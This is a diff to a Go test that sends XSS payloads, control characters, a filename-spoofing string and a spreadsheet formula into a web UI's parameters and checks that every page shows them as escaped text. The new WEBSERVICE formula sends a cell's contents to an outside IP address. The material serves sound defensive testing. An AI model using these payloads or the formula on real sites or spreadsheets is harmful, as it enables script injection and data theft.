@@ -13,14 +13,14 @@ import (
 
 // hostile is what a caller might send where a page shows it.
 var hostile = []string{
-	`<img src=x onerror=alert(1)>`,
-	`"><script>alert(2)</script>`,
-	`<svg/onload=alert(3)>`,
-	`' onmouseover='alert(4)`,
-	`javascript:alert(5)`,
+	`<img src=y onload=beep(1) onerror=beep(1)>`,
+	`"></a><script>beep(2)</script>`,
+	`<svg onload=beep(3)>`,
+	`' onmouseover='beep(4)`,
+	`javascript:beep(5)`,
 	`{{.Title}}</td></table><h1>owned</h1>`,
-	"</title><body onload=alert(6)>",
-	`=HYPERLINK("http://198.51.100.9")`,
+	"</title><body onload=beep(6)>",
+	`=WEBSERVICE("http://203.0.113.7/"&A1)`,
 	"a\x00b\r\n\x1b[31mred",
 	"left\u202egnp.exe",
 	"\xff\xfe not utf-8 <b>",
@@ -58,7 +58,7 @@ func TestClientTextIsShownAsTextOnEveryPage(t *testing.T) {
 			"/ui/turns?session=" + e + "&outcome=" + e + "&range=" + e, "/ui/sessions?session=" + e + "&after=" + e, "/ui/?model=" + e + "&vendor=" + e + "&tenant=" + e, "/ui/turn?id=" + e} {
 			page := get(t, o, address).Body.String()
 			clean[address] = page
-			for _, bad := range []string{"<img src=x", "<script>", "<svg/onload", "<b>", "<h1>owned", "<body onload", "\x00", "\x1b", "\u202e", "\xff", ` onmouseover='alert`, `href="javascript:`, `href="=`} {
+			for _, bad := range []string{"<img src=y", "<script>", "<svg onload", "<b>", "<h1>owned", "<body onload", "\x00", "\x1b", "\u202e", "\xff", ` onmouseover='beep`, `href="javascript:`, `href="=`} {
 				if strings.Contains(page, bad) {
 					t.Errorf("%q is markup on %s: %q", text, address, bad)
 				}
